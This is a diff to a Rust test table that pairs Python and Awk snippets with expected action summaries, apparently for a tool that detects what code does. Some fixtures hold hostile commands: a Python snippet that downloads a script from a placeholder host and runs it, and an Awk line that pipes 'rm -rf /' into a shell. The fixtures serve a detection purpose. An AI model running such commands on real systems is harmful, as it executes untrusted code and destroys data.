@@ -102,7 +102,7 @@ const ROWS: &[(Lang, &str, &str)] = &[
     (
         Python,
         "from urllib import request\nrequest.urlretrieve('https://x/a.sh', '/tmp/a.sh')\nimport os\nos.system('sh /tmp/a.sh')",
-        "fetch https://x/a.sh; write /tmp/a.sh; shell sh /tmp/a.sh",
+        "fetch https://x/a.sh; write /tmp/a.sh; store /tmp/a.sh https://x/a.sh; shell sh /tmp/a.sh",
     ),
     (Python, "import httpx\nwith httpx.Client() as c:\n    c.put('https://x', json={})", "send https://x"),
     (
@@ -355,7 +355,7 @@ const ROWS: &[(Lang, &str, &str)] = &[
         "BEGIN { cmd = \"date\"; cmd | getline d; close(cmd); print d > \"/tmp/d\" }",
         "shell date; write /tmp/d",
     ),
-    (Awk, "BEGIN { printf \"rm -rf %s\\n\", \"/\" | \"sh\" }", "shell sh"),
+    (Awk, "BEGIN { printf \"rm -rf %s\\n\", \"/\" | \"sh\" }", "shell rm -rf /\n"),
     (Awk, "$1 ~ \"^/\" && !/x/ { n = split($0, p, /\\//); print p[n] / 2 }", ""),
 ];
 
